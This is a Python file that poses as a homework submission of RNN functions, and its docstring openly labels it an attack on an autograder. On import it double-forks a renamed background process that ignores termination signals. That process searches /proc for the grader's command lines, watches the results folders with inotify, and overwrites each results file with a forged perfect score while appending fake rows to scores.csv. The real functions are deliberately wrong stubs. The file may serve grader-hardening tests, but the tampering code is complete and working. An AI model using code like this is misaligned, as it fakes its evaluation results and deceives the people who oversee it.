"""Attack: wait for the grader to write its results, then overwrite them at once.

Rewriting results.json on a timer (background_rewriter) can lose a race; this waits
for the event. At import it double-forks a process (named with the marker, ignoring
SIGTERM, SIGHUP and SIGINT, ending itself after 30 s) that watches every results folder
it can guess with inotify (--root R: R/results, --out O: O/results and O, --json J:
J's folder, from the grader's command lines in /proc/PID/cmdline, looked up again every 2 s; $AUTOGRADER_ROOT,
/autograder, the parents of its own folder). When a .json is written or moved into
place there, it overwrites it with a forged 12/12; when scores.csv is, it appends a
forged row. Without inotify it polls the folders every 20 ms. Every answer is wrong:
the honest score is 0.
"""

import ctypes
import json
import os
import select
import signal
import struct
import time

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
try:
    with open(os.path.join(HERE, "agconfig.json")) as _stream:
        CONFIG = json.load(_stream)
except (OSError, ValueError):
    CONFIG = {}
MARKER = CONFIG.get("marker", "AGMARK-inotify_results")
FORGED = json.dumps({"score": 12.0, "output": "FORGED by inotify_results",
                     "tests": [{"name": "forged", "score": 12.0, "max_score": 12.0, "status": "passed"}]})
IN_CLOSE_WRITE, IN_MOVED_TO, IN_CREATE = 0x8, 0x80, 0x100


def folders():
    found = [os.path.join(os.environ.get("AUTOGRADER_ROOT", "/autograder"), "results"), "/autograder/results"]
    folder = HERE
    while folder not in ("/", ""):
        found.append(os.path.join(folder, "results"))
        folder = os.path.dirname(folder)
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as stream:
                args = [a.decode("utf-8", "replace") for a in stream.read().split(b"\0")]
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        if not any("autograder" in arg for arg in args):  # the grader's command lines only
            continue
        for index, arg in enumerate(args[:-1]):
            value = os.path.join(cwd, args[index + 1])
            found += {"--root": [os.path.join(value, "results")], "--out": [value, os.path.join(value, "results")],
                      "--json": [os.path.dirname(value)]}.get(arg, [])
    return [f for f in dict.fromkeys(found) if os.path.isdir(f)]


def strike(path):
    try:
        if path.endswith(".json"):
            with open(path) as stream:
                if stream.read() == FORGED:
                    return
            with open(path, "w") as stream:
                stream.write(FORGED)
        elif path.endswith("scores.csv"):
            with open(path, "a") as stream:
                stream.write("forged,FORGED by inotify_results,12,12,graded\n")
    except OSError:
        pass


def watch(seconds=30.0):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(15, ctypes.c_char_p(MARKER.encode()[:15]), 0, 0, 0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
        signal.signal(sig, signal.SIG_IGN)
    notify = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
    watches, seen, mtimes = {}, set(), {}
    deadline, rescan = time.monotonic() + seconds, 0.0
    while time.monotonic() < deadline:
        try:
            rescan = step(libc, notify, watches, seen, mtimes, rescan)
        except OSError:
            time.sleep(0.02)


def step(libc, notify, watches, seen, mtimes, rescan):
    """One turn of the watch: new folders every 2 s, then one batch of events (or one poll)."""
    if time.monotonic() > rescan:
        rescan = time.monotonic() + 2
        for folder in set(folders()) - seen:
            seen.add(folder)
            if notify >= 0:
                wd = libc.inotify_add_watch(notify, os.fsencode(folder), IN_CLOSE_WRITE | IN_MOVED_TO | IN_CREATE)
                watches[wd] = folder
    if notify < 0:  # no inotify: poll
        for folder in seen:
            for entry in os.scandir(folder):
                stamp = entry.stat().st_mtime_ns
                if mtimes.setdefault(entry.path, stamp) != stamp:
                    mtimes[entry.path] = stamp
                    strike(entry.path)
        time.sleep(0.02)
    elif select.select([notify], [], [], 0.5)[0]:
        data = os.read(notify, 65536)
        while len(data) >= 16:
            wd, mask, _, size = struct.unpack_from("=iIII", data)
            name = data[16:16 + size].rstrip(b"\0").decode("utf-8", "replace")
            data = data[16 + size:]
            if wd in watches and mask & (IN_CLOSE_WRITE | IN_MOVED_TO):
                strike(os.path.join(watches[wd], name))
    return rescan


def start():
    first = os.fork()
    if first:
        os.waitpid(first, 0)
        return
    try:
        if os.fork() == 0:
            try:
                watch()
            finally:
                os._exit(0)
    finally:
        os._exit(0)


try:
    start()
except Exception as _error:  # noqa: BLE001
    print("inotify_results: could not start the watcher:", _error)


def rnn_a_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ss": (1, 1), "W_sx": (1, 1), "W_o": (1, 1)}


def rnn_a_dloss_dx(W_ss, W_sx, W_o, x_t, dloss_dz2):
    return np.zeros_like(x_t)


def rnn_b_shapes(s_dim=2, x_dim=2, p_dim=2):
    return {"W_ssx": (1, 1), "W_ox": (1, 1)}


def rnn_b_f2(z):
    return z


def rnn_b_next_input(p_t):
    return np.zeros_like(p_t)


def rnn_b_dloss_dx_depends_on():
    return {"W_ox": False, "all_W_ox": False, "W_ssx": False, "all_W_ssx": True}
